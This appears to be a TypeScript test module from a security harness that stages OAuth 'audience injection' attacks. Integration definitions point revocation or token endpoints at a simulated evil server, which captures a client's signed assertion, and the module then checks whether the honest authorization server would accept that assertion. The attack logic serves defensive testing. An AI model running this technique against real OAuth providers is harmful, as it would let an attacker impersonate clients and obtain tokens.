import { exportJWK, generateKeyPair, jwtVerify } from 'jose';
import { type Attack, stopped, succeeded, type Verdict } from './attack.ts';
import type { Stage } from './stage.ts';

/** Audience injection: an evil server has itself sent an assertion that is good at the honest one. */

type Addresses = { authorization_endpoint: string; token_endpoint: string };

/** Registers an integration with a key of its own at a definition of somebody else, and sees whether an assertion that he is sent is good at the honest server. */
async function injects(stage: Stage, more: (honest: Addresses & { issuer: string }) => object): Promise<Verdict> {
  const id = stage.fresh('audience');
  const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true });
  const private_key_jwk = { ...(await exportJWK(privateKey)), alg: 'ES256', kid: 'key-1' };
  const { authorization_endpoint, token_endpoint } = JSON.parse(stage.providers.authorizationServer.definition).methods['web-jwt'];
  const { issuer } = stage.providers.authorizationServer;
  const addresses = { authorization_endpoint, token_endpoint };
  const web = {
    ...{ grant: 'authorization_code', ...addresses, token_endpoint_auth_method: 'private_key_jwt' },
    ...more({ ...addresses, issuer }),
  };
  await stage.define(JSON.stringify({ id, name: 'Half evil', methods: { web } }));
  await stage.root.call('POST', '/v1/integrations', { body: { id, provider: id, client_id: 'app', private_key_jwk } });
  const body = { integration: id, end_user: { id: 'u1' }, import: { access_token: 'at', refresh_token: 'rt' } };
  const made = await stage.root.call<{ id: string }>('POST', '/v1/connections', { body });
  stage.mislead(() => '');
  // The honest server would end what it does not know, and nobody would be told of its end.
  if (web.token_endpoint !== token_endpoint) await stage.root.getToken(made.id, { force: true }).catch(() => {});
  await stage.root.call('DELETE', `/v1/connections/${made.id}`);
  const assertion = stage.captured.map((form) => form.get('client_assertion')).find((given) => given !== null);
  if (assertion === undefined || assertion === null) throw new Error('The evil endpoint was sent no assertion.');
  // The honest server takes assertions for its token endpoint or for itself, by itself or in a list.
  return jwtVerify(assertion, publicKey, { issuer: 'app', subject: 'app', audience: [token_endpoint, issuer] }).then(
    () => succeeded('the honest server would take it'),
    (error: unknown) => stopped(`at the honest server: ${error instanceof Error ? error.message : ''}`),
  );
}

export const audienceInjection: Attack[] = [
  {
    name: "audience injection: an evil endpoint beside the honest token endpoint is sent the client's assertion",
    falls: [['audience is the addressee']],
    run: (stage) => injects(stage, () => ({ revocation_endpoint: `${stage.evil.url}/revoke` })),
  },
  {
    name: 'audience injection: a definition that names the honest issuer has its revocation elsewhere',
    falls: [['audience is the addressee']],
    run: (stage) => injects(stage, ({ issuer }) => ({ issuer, revocation_endpoint: `${stage.evil.url}/revoke` })),
  },
  {
    name: 'audience injection: a definition that names the honest issuer has its token endpoint elsewhere',
    falls: [['audience is the addressee']],
    run: (stage) => injects(stage, ({ issuer }) => ({ issuer, token_endpoint: `${stage.evil.url}/token` })),
  },
];
